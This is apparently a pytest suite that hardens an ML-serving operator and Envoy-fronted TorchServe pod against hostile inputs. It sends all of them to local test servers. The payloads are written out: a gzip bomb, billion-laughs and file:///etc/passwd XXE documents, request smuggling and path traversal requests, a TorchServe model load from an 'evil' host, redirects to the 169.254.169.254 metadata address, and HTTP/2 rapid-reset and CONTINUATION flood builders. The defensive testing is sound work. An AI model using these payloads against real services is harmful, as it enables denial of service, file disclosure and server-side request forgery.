"""Hostile metrics pages, store answers and requests, before the operator and a pod's Envoy."""

import asyncio
import gzip
import time
from itertools import pairwise
from pathlib import Path

import pytest

from slipway.accounts.errors import CredentialError
from slipway.accounts.server.admin import Caller, StoreServer
from slipway.accounts.server.signing import Key
from slipway.controller.readers.asking.bounded import BoundedReader, Bounds, UnansweredError
from slipway.controller.readers.asking.turns import Turns
from tests.unit.controller.readers.test_bounded import HEAD, Serve, sends, server
from tests.unit.envoy.pod import JSON, Pod, running_pod

BOUNDS = Bounds(total_seconds=5.0, connect_seconds=5.0, most_bytes=4096)
PAGE = b"slipway_training_step 7\n"
GOOD = sends(HEAD + b"Content-Length: %d\r\n\r\n" % len(PAGE), PAGE)
BOMB = gzip.compress(bytes(1 << 20))


def redirect(url: str) -> Serve:
    return sends(f"HTTP/1.1 302 Found\r\nLocation: {url}\r\nContent-Length: 0\r\n\r\n".encode())


async def never(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await writer.drain()
    await asyncio.sleep(300)


async def for_ever(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(HEAD + b"\r\n")
    while True:
        writer.write(b"x 1\n" * 100)
        await writer.drain()


PAGES: dict[str, Serve] = {
    "silence": never,
    "a page without end": for_ever,
    "a page that unfolds": sends(
        HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(BOMB), BOMB
    ),
    "headers without end": sends(b"HTTP/1.1 200 OK\r\n" + b"a: b\r\n" * 50_000),
    "no HTTP": sends(b"\x00\xff" * 100),
    "two lengths": sends(HEAD + b"Content-Length: 1\r\nContent-Length: 9\r\n\r\nx"),
    "a length below zero": sends(HEAD + b"Content-Length: -1\r\n\r\nx"),
}


@pytest.mark.parametrize("page", PAGES)
async def test_a_pods_page_costs_the_operator_its_bounds_and_the_next_pod_is_read(
    page: str,
) -> None:
    reader, begun = BoundedReader(BOUNDS, Turns(1, 1)), time.monotonic()
    try:
        async with server(PAGES[page]) as hostile, server(GOOD) as victim:
            with pytest.raises(UnansweredError) as told:
                await reader.get_page(hostile, "attacker")
            assert await reader.get_page(victim, "victim") == PAGE.decode()
    finally:
        await reader.close()
    assert len(str(told.value)) < 400
    assert str(told.value).isprintable()
    assert time.monotonic() - begun < 120


async def test_a_pods_page_leads_the_operator_to_no_other_address() -> None:
    asked: list[bytes] = []

    async def internal(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(b"internal")
        await GOOD(_, writer)

    reader = BoundedReader(BOUNDS, Turns(1, 1))
    try:
        async with server(internal) as inside, server(redirect(inside)) as hostile:
            with pytest.raises(UnansweredError, match="302"):
                await reader.get_page(hostile, "attacker")
    finally:
        await reader.close()
    assert asked == []


ENTITIES = "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise("abcdefghij")
)
LAUGHS = f'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">{ENTITIES}]><Accounts>&j;</Accounts>'.encode()
FILE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Accounts>&x;</Accounts>'


def answered(body: bytes) -> Serve:
    return sends(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


ANSWERS: dict[str, Serve] = {
    "XML that unfolds": answered(LAUGHS),
    "XML that names a file": answered(FILE),
    "no XML": answered(b"<html>"),
    "an answer without end": for_ever,
    "no HTTP": sends(b"\x00\xff" * 100),
    "a way to another address": redirect("http://169.254.169.254/"),
}


@pytest.mark.parametrize("answer", ANSWERS)
async def test_a_stores_answer_is_an_error_in_words_and_no_account(answer: str) -> None:
    async with server(ANSWERS[answer]) as url:
        endpoint = url.removesuffix("/metrics")
        hostile = StoreServer(Caller(endpoint, Key("key", "secret"), "us-east-1"))
        with pytest.raises(CredentialError) as told:
            await hostile.accounts()
    assert "root:" not in str(told.value)
    assert len(str(told.value)) < 1000


HOST = b" HTTP/1.1\r\nhost: x\r\nconnection: close\r\n"
BODY = b"content-length: 3\r\n\r\n[1]"
FORM = b"content-type: application/x-www-form-urlencoded\r\n"
REQUESTS: dict[str, bytes] = {
    "TorchServe's management": b"POST /models?url=http://evil/a.mar" + HOST + BODY,
    "the removal of the model": b"DELETE /models/iris" + HOST + BODY,
    "another model by dots": b"POST /predict/../models" + HOST + BODY,
    "another model by encoded dots": b"POST /predict/%2e%2e/models" + HOST + BODY,
    "another model by an encoded slash": b"POST /predict%2f..%2fmodels" + HOST + BODY,
    "a path that begins alike": b"POST /predictions/iris2" + HOST + BODY,
    "Envoy's admin": b"POST /quitquitquit" + HOST + BODY,
    "a form": b"POST /predict"
    + HOST
    + b"content-type: application/x-www-form-urlencoded\r\n"
    + BODY,
    "two lengths": b"POST /predict" + HOST + b"content-length: 9\r\n" + BODY,
    "a length and chunks": b"POST /predict" + HOST + b"transfer-encoding: chunked\r\n" + BODY,
    "a header with an underscore": b"POST /predict" + HOST + b"x_slipway_token: a\r\n" + BODY,
    "an absolute address": b"POST http://169.254.169.254/models" + HOST + BODY,
}


async def status_of(pod: Pod, request: bytes) -> int:
    """Send bytes; return the status of the answer, however long the connection lasts."""
    reader, writer = await asyncio.open_connection("127.0.0.1", pod.config.http_port)
    writer.write(request)
    line = await asyncio.wait_for(reader.readline(), 120)
    writer.close()
    return int(line.split()[1])


async def test_requests_reach_nothing_but_the_model_which_goes_on_answering(tmp_path: Path) -> None:
    async with running_pod(tmp_path) as pod:
        for name, request in REQUESTS.items():
            code = await status_of(pod, request)
            assert 400 <= code < 500, name
            assert await pod.post("/predict", b"[2]") == (200, "[2]"), name
        assert set(pod.torchserve.paths) == {"/predictions/iris"}
        assert len(pod.torchserve.paths) == len(REQUESTS)


async def test_a_forged_header_chooses_no_revision_and_reaches_no_model(tmp_path: Path) -> None:
    async with running_pod(tmp_path) as pod:
        forged = {f"x-slipway-{name}": "1" for name in ("forwarded", "token")}
        url = pod.url(pod.config.http_port, "/predict")
        async with pod.session.post(url, data=b"[1]", headers={**JSON, **forged}) as answer:
            assert answer.status == 200
        (headers,) = pod.torchserve.headers
        assert not [name for name in headers if name.startswith("x-slipway")]


UPGRADE = b"connection: upgrade, http2-settings\r\n"
TUNNELS: dict[str, bytes] = {
    "a tunnel": b"CONNECT 127.0.0.1:8081 HTTP/1.1\r\nhost: x\r\n\r\n",
    "a WebSocket": b"GET /predict HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\n"
    b"sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n"
    + UPGRADE
    + b"\r\n",
    "HTTP/2 by an upgrade": b"POST /predict HTTP/1.1\r\nhost: x\r\nupgrade: h2c\r\n"
    b"http2-settings: AAMAAABkAAQAAP__\r\ncontent-type: application/json\r\n" + UPGRADE + BODY,
    "an echo of headers": b"TRACE /predict" + HOST + b"\r\n",
}


@pytest.mark.parametrize("how", TUNNELS)
async def test_no_connection_becomes_a_way_through_to_torchserve(tmp_path: Path, how: str) -> None:
    behind = b"GET /models HTTP/1.1\r\nhost: x\r\n\r\n"
    async with running_pod(tmp_path) as pod:
        reader, writer = await asyncio.open_connection("127.0.0.1", pod.config.http_port)
        writer.write(TUNNELS[how] + behind)
        if how == "a tunnel":
            writer.write_eof()  # else Envoy waits for more of the body
        line = await asyncio.wait_for(reader.readline(), 120)
        writer.close()
        assert line == b"" or line.split()[1] in (b"200", b"400", b"403", b"404", b"405", b"426")
        assert await pod.post("/predict", b"[2]") == (200, "[2]")
        assert set(pod.torchserve.paths) == {"/predictions/iris"}


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, CONTINUATION = 4, 1, 3, 9
END_HEADERS, END_STREAM = 4, 1
ASKED = b"\x83\x86\x44\x08/predict\x41\x01x"
"""POST, http, /predict and the host x in HPACK (RFC 7541, appendix A)."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags))
    return head + stream.to_bytes(4, "big") + payload


def reset_at_once(streams: int) -> bytes:
    """Return requests that are taken back as soon as they are made (CVE-2023-44487)."""
    return b"".join(
        frame(HEADERS, END_HEADERS, number, ASKED) + frame(RST_STREAM, 0, number, bytes(4))
        for number in range(1, 2 * streams, 2)
    )


def never_ending_headers(frames: int) -> bytes:
    """Return the headers of one request, which go on and on (CVE-2024-27316)."""
    more = b"".join(b"\x00\x08x-%06d\x01v" % number for number in range(900))
    return frame(HEADERS, 0, 1, ASKED) + frame(CONTINUATION, 0, 1, more) * frames


FLOODS = {
    "requests that are taken back": reset_at_once(20_000),
    "headers without end": never_ending_headers(2_000),
}


@pytest.mark.parametrize("flood", FLOODS)
async def test_a_flood_of_frames_ends_its_own_connection_and_nobody_elses(
    tmp_path: Path, flood: str
) -> None:
    async with running_pod(tmp_path) as pod:
        reader, writer = await asyncio.open_connection("127.0.0.1", pod.config.http_port)
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + FLOODS[flood])
        try:
            async with asyncio.timeout(120):
                while await reader.read(65536):
                    pass
        except ConnectionError:
            pass
        writer.close()
        assert await pod.post("/predict", b"[2]") == (200, "[2]")
        assert len(pod.torchserve.paths) < 1_500
